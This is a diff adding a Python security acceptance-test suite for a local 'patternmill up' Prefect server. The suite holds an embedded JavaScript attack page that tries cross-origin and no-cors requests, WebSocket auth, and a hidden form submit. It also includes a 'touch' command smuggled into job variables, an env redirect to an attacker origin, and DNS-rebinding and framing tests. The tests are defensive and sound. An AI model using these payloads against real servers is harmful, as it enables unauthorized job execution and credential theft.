@@ -1,0 +1,401 @@
+"""`patternmill up` against whoever should not get in: a page in the person's browser, a rebound name, another user.
+
+One catalog waits for its approval while the attacks are made; then the person clicks, in the same browser.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import signal
+import subprocess
+import threading
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from contextlib import suppress
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from prefect.workers.process import ProcessWorker
+
+from cli.prefect_record import LOGIN_PATH, USER, Api, api_with_password, own_password
+from cli.worker import POOL, job_template
+from tests.acceptance.browser import Browser, installed
+from tests.acceptance.harness import COMMAND, some_rows, write_csv
+from tests.acceptance.prefect_servers import clean_environment, eventually, lay_database, migrated_database
+
+FINAL = ("COMPLETED", "FAILED", "CANCELLED", "CRASHED")
+CODE = "orchard-41-lantern"
+#: Every way of sending that a page has; what the browser or the server refuses is written down as such.
+ATTACKS = """
+const seen = {};
+const tried = async (name, attack) => {
+  try { seen[name] = await attack(); } catch (error) { seen[name] = 'refused: ' + error.name; }
+};
+const read = (path, body) => fetch(API + path, {
+  method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(body || {}),
+}).then(answer => 'answered ' + answer.status);
+// A body of no type needs no leave of the server, and Prefect takes it for JSON.
+const blind = (path, body) => fetch(API + path, {
+  method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([JSON.stringify(body)]),
+}).then(answer => 'sent ' + answer.type);
+const listen = (path, protocols) => new Promise(done => {
+  const socket = new WebSocket(API.replace('http', 'ws') + path, protocols);
+  socket.onopen = () => socket.send(JSON.stringify({type: 'auth', token: null}));
+  socket.onmessage = message => done('answered ' + message.data);
+  socket.onclose = end => done('refused: ' + end.code);
+});
+const now = {type: 'SCHEDULED'};
+(async () => {
+  const create = '/deployments/' + REFRESH + '/create_flow_run';
+  const ordered = {parameters: {source: SOURCE, catalog: 'stolen', environment: 'staging'}, state: now};
+  const shell = {state: now, job_variables: {command: 'touch ' + MARK}};
+  const redirected = {state: now, job_variables: {env: {PATTERNMILL_STUDIO_URL: location.origin + '/v1'}}};
+  const approved = {run_input: {decision: 'approve', up_to: 8, name: 'The Director', note: '', code: 'guess-guess'}};
+  const attacks = {read: ['/flow_runs/filter', {}], create: [create, ordered], shell: [create, shell],
+    redirected: [create, redirected], approved: ['/flow_runs/' + WAITING + '/resume', approved],
+    forced: ['/flow_runs/' + WAITING + '/set_state', {state: now, force: true}],
+    input: ['/flow_runs/' + WAITING + '/input', {key: 'suspended', value: '{}'}]};
+  for (const [name, [path, body]] of Object.entries(attacks)) {
+    await tried(name, () => read(path, body));
+    await tried(name + ' blind', () => blind(path, body));
+  }
+  for (const path of ['/events/in', '/events/out', '/logs/out', '/work_pools/' + POOL + '/workers/connect']) {
+    await tried('socket ' + path, () => listen(path, ['prefect']));
+    await tried('old socket ' + path, () => listen(path));
+  }
+  const form = document.createElement('form');
+  const sink = document.body.appendChild(document.createElement('iframe'));
+  Object.assign(form, {method: 'POST', action: API + create, target: sink.name = 'sink'});
+  document.body.append(form); form.submit();
+  await fetch('/report', {method: 'POST', body: JSON.stringify(seen)});
+})();
+"""
+
+
+class Thief:
+    """Another local origin: serves the attacking page, and writes down whatever is brought to it."""
+
+    def __init__(self) -> None:
+        self.script = ""
+        self.report: dict[str, str] = {}
+        #: Every request that was no page of its own: what the worker's key would come with.
+        self.brought: list[str] = []
+        thief = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                if self.path.startswith("/v1"):
+                    thief.brought.append(f"{self.path} {self.headers.get('Authorization')}")
+                page = f"<!doctype html><body><script>{thief.script}</script>".encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(page)
+
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                if self.path == "/report":
+                    thief.report = json.loads(body)
+                else:
+                    thief.brought.append(f"{self.path} {self.headers.get('Authorization')}")
+                self.send_response(200)
+                self.end_headers()
+
+            def log_message(self, format: str, *args: Any) -> None:
+                """Nothing on the terminal."""
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self._server.server_port}"
+        threading.Thread(target=self._server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+@dataclass
+class Up:
+    """The command, and what its own person knows of it."""
+
+    folder: Path
+    process: subprocess.Popen[bytes]
+    #: A run that waits for its approval.
+    waiting: str = ""
+
+    @property
+    def said(self) -> str:
+        return (self.folder / "said").read_text("utf-8", "replace")
+
+    @property
+    def ui(self) -> str:
+        address = re.search(r"Prefect UI: +(\S+)", self.said)
+        assert address, self.said
+        return address[1]
+
+    @property
+    def api(self) -> Api:
+        return api_with_password(f"{self.ui}/api", own_password(self.folder / "home"))
+
+    @property
+    def login(self) -> str:
+        secret = own_password(self.folder / "home").removeprefix(f"{USER}:")
+        return f"{self.ui}{LOGIN_PATH}#{secret}"
+
+    def deployment(self, name: str) -> str:
+        return str(self.api.get(f"deployments/name/{name}/{name}")["id"])
+
+    def begin(self, **order: Any) -> str:
+        path = f"deployments/{self.deployment('bulk-import')}/create_flow_run"
+        return str(self.api.post(path, {"state": {"type": "SCHEDULED"}, **order})["id"])
+
+    def state(self, run: str) -> dict[str, Any]:
+        state: dict[str, Any] = self.api.get(f"flow_runs/{run}")["state"]
+        return state
+
+    def runs(self) -> set[str]:
+        return {run["id"] for run in self.api.post("flow_runs/filter", {})}
+
+    def ended(self, run: str) -> dict[str, Any]:
+        eventually(lambda: self.state(run)["type"] in FINAL, 120, lambda: self.state(run))
+        return self.state(run)
+
+
+@pytest.fixture(scope="module")
+def up(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Up]:
+    """Serving, with a plan that waits for a person who has the code."""
+    installed()
+    folder = tmp_path_factory.mktemp("up")
+    lay_database(migrated_database(tmp_path_factory.getbasetemp()), folder / "home")
+    settings = {
+        "PATTERNMILL_HOME": str(folder / "home"),
+        "PATTERNMILL_APPROVE_ABOVE_ITEMS": "3",
+        "PATTERNMILL_APPROVAL_CODE": CODE,
+    }
+    with (folder / "said").open("wb") as said:
+        process = subprocess.Popen(
+            [str(COMMAND), "up"], cwd=folder, env=clean_environment() | settings, stdout=said, stderr=said
+        )
+    up = Up(folder, process)
+    try:
+        eventually(lambda: "Ctrl-C stops" in up.said or process.poll() is not None, 120, lambda: up.said)
+        file = write_csv(folder / "garden.csv", some_rows(4, about="garden", goods=1))
+        up.waiting = up.begin(
+            parameters={"file": str(file), "environment": "staging", "out": str(folder / "out")}
+        )
+        eventually(lambda: up.state(up.waiting)["name"] == "Suspended", 120, lambda: up.state(up.waiting))
+        yield up
+    finally:
+        process.send_signal(signal.SIGINT)
+        process.wait(90)
+
+
+@pytest.fixture(scope="module")
+def thief() -> Iterator[Thief]:
+    server = Thief()
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def browser(up: Up, thief: Thief, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    """The person's, logged in; a name of the thief's leads to this machine, as after a rebinding."""
+    rebound = "--host-resolver-rules=MAP rebound.example 127.0.0.1"
+    with Browser(tmp_path_factory.mktemp("profile"), rebound) as one:
+        one.open(up.login)
+        one.until("location.pathname.includes('dashboard')")
+        yield one
+
+
+def test_a_page_in_the_logged_in_browser(up: Up, thief: Thief, browser: Browser) -> None:
+    """It knows every address and ID; it reads nothing, starts nothing, approves nothing, is brought nothing."""
+    before, mark = up.runs(), up.folder / "mark"
+    known = {
+        "API": up.api.url,
+        "REFRESH": up.deployment("catalog-refresh"),
+        "WAITING": up.waiting,
+        "SOURCE": str(up.folder / "garden.csv"),
+        "MARK": str(mark),
+        "POOL": POOL,
+    }
+    thief.script = "".join(f"const {name} = {json.dumps(text)};" for name, text in known.items()) + ATTACKS
+    browser.open(thief.origin)
+    eventually(lambda: thief.report, 90, lambda: browser.text())
+    seen = thief.report
+    assert len(seen) == 22
+    # A blind request is sent, and nobody sees its answer: what came of it is looked at below.
+    assert [name for name, end in seen.items() if "refused" not in end and "blind" not in name] == [], seen
+    assert up.runs() == before
+    assert up.state(up.waiting)["name"] == "Suspended"
+    assert not mark.exists()
+    assert thief.brought == []
+
+
+def test_a_page_cannot_show_the_ui_inside_of_itself(up: Up, thief: Thief, browser: Browser) -> None:
+    """Or a person would click what they do not see."""
+    thief.script = f"document.body.innerHTML = '<iframe src=\"{up.ui}/runs\"></iframe>'"
+    browser.open(thief.origin)
+    eventually(lambda: browser.frames() == ["chrome-error://chromewebdata/"], 20, browser.frames)
+
+
+def test_a_name_that_was_rebound(up: Up, browser: Browser) -> None:
+    """The page is of the thief's name, so that the browser takes the server for the thief's own."""
+    port = up.ui.rpartition(":")[2]
+    for path in ("/", LOGIN_PATH, "/api/health", "/ui-settings", "/api/admin/version"):
+        browser.open(f"http://rebound.example:{port}{path}")
+        browser.shows(f"This server is {up.ui} alone.")
+
+
+def test_another_user_of_the_machine(up: Up) -> None:
+    """Without the credential there is the health of the server, the UI's files, and nothing else."""
+    for path in (
+        "version",
+        "admin/settings",
+        "deployments/filter",
+        "openapi.json",
+        "docs",
+        "../openapi.json",
+    ):
+        with pytest.raises(urllib.error.HTTPError) as refused:
+            urllib.request.urlopen(f"{up.api.url}/{path}", timeout=20)
+        with refused.value as answer:
+            assert answer.code in {401, 404}, path
+    with urllib.request.urlopen(f"{up.api.url}/health", timeout=20) as answer:
+        assert answer.status == 200
+
+
+def test_nobody_reads_the_credential(up: Up) -> None:
+    """Not from the processes' arguments, not from what was printed into a file, not from any log or database."""
+    secret = own_password(up.folder / "home").removeprefix(f"{USER}:").encode()
+    for place in Path("/proc").glob("[0-9]*/cmdline"):
+        with suppress(OSError):
+            assert secret not in place.read_bytes(), place
+    holding = [path for path in up.folder.rglob("*") if path.is_file() and secret in path.read_bytes()]
+    assert holding == [up.folder / "home" / "prefect" / "credential"]
+
+
+def test_a_run_chooses_its_parameters_alone(up: Up) -> None:
+    """Whoever may start runs cannot choose the command or the environment: the server says no, and so does the worker,
+    where a pool would let them."""
+    mark = up.folder / "mark"
+    wishes: list[dict[str, Any]] = [{"command": f"touch {mark}"}, {"env": {"PATTERNMILL_STUDIO_URL": "x"}}]
+    for wish in [*wishes, {"env.PATTERNMILL_STUDIO_URL": "x"}, {"working_dir": "/"}]:
+        with pytest.raises(urllib.error.HTTPError) as refused:
+            up.begin(job_variables=wish)
+        with refused.value as answer:
+            assert answer.code in {409, 422}, wish
+    up.api.patch(f"work_pools/{POOL}", {"base_job_template": ProcessWorker.get_default_base_job_template()})
+    try:
+        for wish in wishes:
+            ended = up.ended(up.begin(job_variables=wish, parameters={"file": "none.csv"}))
+            assert ended["type"] == "CRASHED"
+            assert (
+                f"sets {'command' if 'command' in wish else 'env PATTERNMILL_STUDIO_URL'}" in ended["message"]
+            )
+    finally:
+        up.api.patch(f"work_pools/{POOL}", {"base_job_template": job_template()})
+    assert not mark.exists()
+
+
+def answer_in_the_ui(up: Up, browser: Browser, code: str) -> None:
+    browser.open(f"{up.ui}/runs/flow-run/{up.waiting}")
+    browser.click("Resume")
+    browser.shows("Nobody checks it")
+    for label, text in {"Decision": "approve", "Your name": "A. Weaver", "Approval code": code}.items():
+        browser.fill(label, text)
+    browser.click("Submit")
+
+
+def test_the_ui_fetches_nothing_of_elsewhere(up: Up, thief: Thief, browser: Browser) -> None:
+    """Whatever a text that is shown there brings along."""
+    browser.open(f"{up.ui}/runs")
+    browser.shows("Flow runs")
+    for fetch in (
+        f"new Promise(done => Object.assign(new Image(), {{onload: () => done(1), onerror: () => done(0), "
+        f"src: '{thief.origin}/v1/picture'}}))",
+        f"fetch('{thief.origin}/v1/sent', {{mode: 'no-cors'}}).then(() => 1, () => 0)",
+    ):
+        assert browser.do(fetch) == 0
+    assert thief.brought == []
+
+
+def inputs_of(up: Up) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = up.api.post(
+        f"flow_runs/{up.waiting}/input/filter", {"prefix": "", "limit": 99}
+    )
+    return found
+
+
+def test_the_person_clicks(up: Up, browser: Browser) -> None:
+    """A wrong code leaves the plan waiting, and the form says so; with the right one the run goes to its end."""
+    browser.open(f"{up.ui}/runs")
+    browser.shows("garden.csv")
+    asked = up.state(up.waiting)["state_details"]["pause_key"]
+    answer_in_the_ui(up, browser, "orchard-41-window")
+    eventually(
+        lambda: up.state(up.waiting)["state_details"]["pause_key"] not in {asked, None},
+        90,
+        lambda: (up.state(up.waiting), browser.text()),
+    )
+    assert not (up.folder / "out").exists()
+    browser.open(f"{up.ui}/runs/flow-run/{up.waiting}")
+    browser.click("Resume")
+    browser.shows("The approval code of the last answer was not right")
+
+    answer_in_the_ui(up, browser, CODE)
+    assert up.ended(up.waiting)["name"] == "Completed"
+    assert len((up.folder / "out" / "results.csv").read_text("utf-8").splitlines()) == 5
+    status = subprocess.run(
+        [str(COMMAND), "status"],
+        env=clean_environment() | {"PATTERNMILL_HOME": str(up.folder / "home")},
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert "approved by A. Weaver (name not verified)" in status.stdout
+    assert_the_code_is_nowhere(up)
+
+
+def assert_the_code_is_nowhere(up: Up) -> None:
+    """Not where anything can be asked for it: input, parameters, states, artifacts, events, logs, ledger, results."""
+    # The last events and logs are on their way.
+    eventually(lambda: "Completed" in json.dumps(up.api.post("events/filter", {"limit": 50})), 30)
+    shown = [inputs_of(up), up.api.get(f"flow_runs/{up.waiting}")]
+    for kind in ("artifacts", "logs", "events", "task_runs", "flow_run_states"):
+        if kind == "flow_run_states":
+            shown.append(up.api.get(f"flow_run_states/?flow_run_id={up.waiting}"))
+        else:
+            shown.append(up.api.post(f"{kind}/filter", {"limit": 50 if kind == "events" else 200}))
+    assert "orchard" not in json.dumps(shown)
+    for path in [*up.folder.rglob("ledger*"), *up.folder.rglob("*.log"), *(up.folder / "out").rglob("*")]:
+        if path.is_file():
+            assert b"orchard" not in path.read_bytes(), path
+
+
+def test_the_person_starts_a_run_in_the_ui(up: Up, browser: Browser) -> None:
+    """By the deployment's form; it is planned, and waits, as its catalog is the same."""
+    before = up.runs()
+    browser.open(f"{up.ui}/deployments/deployment/{up.deployment('bulk-import')}/run")
+    browser.shows("Validate parameters")
+    browser.click("Submit")
+    eventually(lambda: up.runs() - before, 60, lambda: browser.text())
+
+
+def test_what_lies_under_the_home_is_for_its_owner_alone(up: Up) -> None:
+    """Ledger, databases, logs, credentials, pictures; the results are as the person's umask has it."""
+    home = up.folder / "home"
+    assert open_to_others(home) == []
+    assert any(path.suffix == ".png" for path in home.rglob("*"))
+    assert open_to_others(up.folder / "out") != []
+
+
+def open_to_others(folder: Path) -> list[str]:
+    return [
+        f"{path} {path.stat().st_mode:o}"
+        for path in (folder, *folder.rglob("*"))
+        if not path.is_symlink() and path.stat().st_mode & 0o077
+    ]
